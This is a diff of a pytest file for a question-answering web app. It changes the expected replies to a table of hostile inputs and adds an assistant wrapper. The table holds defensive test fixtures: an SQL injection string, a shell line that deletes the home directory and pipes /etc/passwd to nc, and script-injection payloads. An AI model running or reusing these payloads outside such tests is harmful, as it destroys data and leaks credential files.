@@ -19,6 +19,7 @@ import pytest
 from app_process import AppProcess, shared_app
 from gradio_client import Client
 
+from qa.policy.assistant import Assistant
 from qa.settings import PROJECT_ROOT
 
 
@@ -65,7 +66,8 @@ def exchange(client: Client, question) -> tuple[str, str, float]:
 
 def test_concurrent_users_all_get_the_right_answer(app, article_retriever):
     """8 users at once, 40 questions: each answered, each with the passage it gets when asked alone."""
-    alone = {q: article_retriever.ask(q) for q in KNOWN}
+    assistant = Assistant(article_retriever)
+    alone = {q: assistant.ask(q) for q in KNOWN}
     report = load_test.run(app.url, list(KNOWN), users=8, total=40, time_limit=180, request_timeout=60)
     figures = report.summary()
     assert (figures["answered"], figures["failed"], figures["not_run"], figures["unconnected_users"]) == \
@@ -80,20 +82,22 @@ def test_concurrent_users_all_get_the_right_answer(app, article_retriever):
     assert figures["inconsistent"] == 0
 
 
-HOSTILE = {  # name: (question, words of the clear message, or None for an answer)
+UNCLEAR = "unclear"  # the reply asks for a question instead of searching
+HOSTILE = {  # name: (question, words of the clear message, UNCLEAR, or None for an answer)
     "empty": ("", "the question is empty"),
     "whitespace": (" \t\n\u3000\r\n ", "the question is empty"),
     "control characters only": ("\x00\x01\x02\x1b\x7f\x85\x9f", "the question is empty"),
     "1 MB": ("x" * (1 << 20), "the limit is 1000"),
     "one character over the limit": ("问" * 1001, "the limit is 1000"),
-    "at the limit": ("问" * 1000, None),
-    "binary as text": (bytes(range(256)).decode("latin-1") * 3, None),
-    "emoji only": ("🏭🚀😀👩‍👩‍👧", "no words in it"),
+    "at the limit": (("曹娥街道今年一季度外资到位了多少？" * 60)[:1000], None),
+    "one character repeated": ("问" * 1000, UNCLEAR),
+    "binary as text": (bytes(range(256)).decode("latin-1") * 3, UNCLEAR),
+    "emoji only": ("🏭🚀😀👩‍👩‍👧", UNCLEAR),
     "mixed scripts": ("Caoe 曹娥 한국어 Ελληνικά кириллица עברית", None),
-    "SQL": ("'; DROP TABLE passages; -- OR 1=1", None),
-    "shell": ("$(rm -rf ~) `reboot` && cat /etc/passwd | nc 10.0.0.1 80", None),
-    "HTML and script": ('<script>alert(1)</script><b onmouseover="alert(2)">x</b>', None),
-    "Markdown link": ("[click](javascript:alert(1)) **bold** $$x$$", None),
+    "SQL": ("'; DROP TABLE passages; -- OR 1=1", UNCLEAR),
+    "shell": ("$(rm -rf ~) `reboot` && cat /etc/passwd | nc 10.0.0.1 80", UNCLEAR),
+    "HTML and script": ('<script>alert(1)</script><b onmouseover="alert(2)">x</b>', UNCLEAR),
+    "Markdown link": ("[click](javascript:alert(1)) **bold** $$x$$", UNCLEAR),
     "bidi override": ("\u202e曹娥街道\u202c的外资", None),
 }
 
@@ -106,7 +110,10 @@ def test_hostile_input_gets_an_answer_or_a_clear_message_in_bounded_time(client,
     assert echoed.startswith("<p>") and echoed.endswith("</p>")
     assert "<" not in echoed[3:-4], "the echoed question must be escaped text"
     assert len(echoed) < 10_000  # never the whole megabyte back
-    if message:
+    if message == UNCLEAR:
+        assert "qa-unclear" in reply and "qa-passage" not in reply
+        assert "<script" not in reply and "<b " not in reply  # never echoed as markup
+    elif message:
         assert reply.startswith("<p>Please check the question:") and message in reply
         assert "qa-passage" not in reply
     else:
